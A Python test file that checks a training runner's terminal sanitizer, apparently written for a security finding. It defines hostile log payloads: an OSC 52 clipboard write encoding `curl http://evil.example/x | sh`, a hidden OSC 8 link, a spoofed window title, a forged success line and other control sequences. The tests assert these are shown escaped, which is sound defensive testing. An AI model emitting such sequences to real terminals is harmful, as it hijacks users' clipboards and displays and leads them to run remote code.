"""Finding 3: escape sequences from the pod never reach a terminal as control sequences (runner/termtext.py).

The log a hostile pod writes carries an OSC 52 clipboard write, an OSC 8 hidden link, a title change,
a screen clear with a forged line, the 8-bit CSI and a bell. On a terminal (a real pty here) only SGR
colours, \\r, \\n and \\t pass; the rest is shown escaped. A pipe gets the exact bytes; --raw gives the
terminal the exact bytes too.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import threading
import tty
from pathlib import Path

import pytest

from runner import termtext
from runner.train.accounting import StepProgress
from runner.train.console import Console, LogView
from tests.runner.test_sync import pod_env, pod_sshd  # noqa: F401  (fixtures)

ROOT = Path(__file__).resolve().parents[2]

OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"  # clipboard := `curl http://evil.example/x | sh`
OSC8 = "\x1b]8;;http://evil.example/\x1b\\docs\x1b]8;;\x1b\\"
TITLE = "\x1b]0;root@your-laptop\x07"
CLEAR = "\x1b[2J\x1b[H[runner] training succeeded: exit code 0"
C1_CSI = "\x9b2J"
SGR = "\x1b[32mgreen\x1b[0m"
HOSTILE_LINES = [f"step 1 {OSC52}", f"see {OSC8}", TITLE, CLEAR, f"8-bit {C1_CSI} bell\x07 back\x08", SGR]
HOSTILE_LOG = ("\n".join(HOSTILE_LINES) + "\n").encode()

# What may reach a terminal: no ESC except SGR's, no C0 but \r \n \t, no C1.
DANGEROUS = ["\x1b]", "\x1b[2J", "\x1b[H", "\x07", "\x08", "\x9b"]


def assert_inert(shown: str) -> None:
    for seq in DANGEROUS:
        assert seq not in shown, (seq, shown)
    assert "\x1b[32mgreen\x1b[0m" in shown  # colours stay
    assert "\\x1b]52;c;" in shown and "\\x1b[2J" in shown  # visible, escaped


def test_the_sanitizer_keeps_colours_and_layout_and_escapes_the_rest():
    shown = termtext.clean("\n".join(HOSTILE_LINES) + "\r\t")
    assert_inert(shown)
    assert shown.endswith("\r\t") and shown.count("\n") == len(HOSTILE_LINES) - 1
    assert termtext.clean("a\nb\rc", termtext.VALUE) == "a\\x0ab\\x0dc"
    assert termtext.clean("plain text, ünïcode ✓") == "plain text, ünïcode ✓"
    assert termtext.clean("loss 0.9 \u202e0.1 ssol") == "loss 0.9 \\u202e0.1 ssol"  # no reordered line


class Pty:
    """A real terminal for the code under test: reads all it is sent, byte for byte (raw mode)."""

    def __init__(self):
        self.master, self.slave = pty.openpty()
        tty.setraw(self.slave)
        self.data = bytearray()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        while True:
            try:
                chunk = os.read(self.master, 65536)
            except OSError:
                return
            if not chunk:
                return
            self.data += chunk

    def close(self) -> str:
        os.close(self.slave)
        self._reader.join(10)
        os.close(self.master)
        return self.data.decode("utf-8", "replace")


def runner(*args: str, stdout=None, stderr=None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "runner", *args], stdout=stdout, stderr=stderr, env=env, timeout=120, check=False
    )


@pytest.fixture
def hostile_pod(pod_env):  # noqa: F811
    pod_env.add_pod("RUNNING")
    log = pod_env.workspace / "logs" / "current.log"
    log.parent.mkdir()
    log.write_bytes(HOSTILE_LOG)
    (pod_env.workspace / ".runner").mkdir()
    (pod_env.workspace / ".runner" / "state.json").write_text(
        json.dumps(
            {
                "run_id": f"r1\n  pod:        stopped{TITLE}",
                "attempt": 1,
                "state": "running",
                "config": f"configs/x.yaml{OSC52}",
                "last_checkpoint": None,
            }
        )
    )
    return pod_env


def test_runner_logs_on_a_terminal_shows_escape_sequences_inert(hostile_pod):
    term = Pty()
    result = runner("logs", stdout=term.slave, stderr=term.slave)
    shown = term.close()
    assert result.returncode == 0
    assert_inert(shown)


def test_runner_logs_into_a_pipe_keeps_the_exact_bytes_and_raw_keeps_them_on_a_terminal(hostile_pod):
    piped = runner("logs", stdout=subprocess.PIPE)
    assert piped.returncode == 0 and piped.stdout == HOSTILE_LOG
    term = Pty()
    assert runner("--raw", "logs", stdout=term.slave, stderr=subprocess.DEVNULL).returncode == 0
    assert term.close().encode() == HOSTILE_LOG


def test_runner_status_on_a_terminal_shows_pod_values_inert_and_on_one_line(hostile_pod):
    term = Pty()
    result = runner("status", stdout=term.slave, stderr=subprocess.DEVNULL)
    shown = term.close()
    assert result.returncode == 0
    for seq in DANGEROUS:
        assert seq not in shown, seq
    run_lines = [line for line in shown.splitlines() if "r1" in line and "run:" in line]
    assert len(run_lines) == 1 and "\\x0a  pod:        stopped\\x1b]0;" in run_lines[0]
    assert "\n  pod:        stopped\x1b" not in shown  # no forged status line


def test_runner_train_live_log_and_runner_lines_on_a_terminal_are_inert(monkeypatch):
    term = Pty()
    out = os.fdopen(os.dup(term.slave), "w", encoding="utf-8", errors="replace")
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", out)
    console = Console()
    view = LogView(console, StepProgress(0.0))
    console.partial(b"progress 10%\r\x1b]0;owned\x07progress 20%\x1b[3")  # an SGR cut off mid-way: held back
    for offset, line in enumerate(HOSTILE_LINES):
        view.line(line, "/workspace/logs/current.log", offset)
    console.say(f"launcher: note from the pod {OSC52}\rtraining succeeded")
    out.flush()
    out.close()
    shown = term.close()
    assert_inert(shown)
    assert "\\x1b]0;owned\\x07" in shown and "\\x1b[3" not in shown
    assert "\\x0dtraining succeeded" in shown  # a \r inside a [runner] line cannot overwrite its prefix
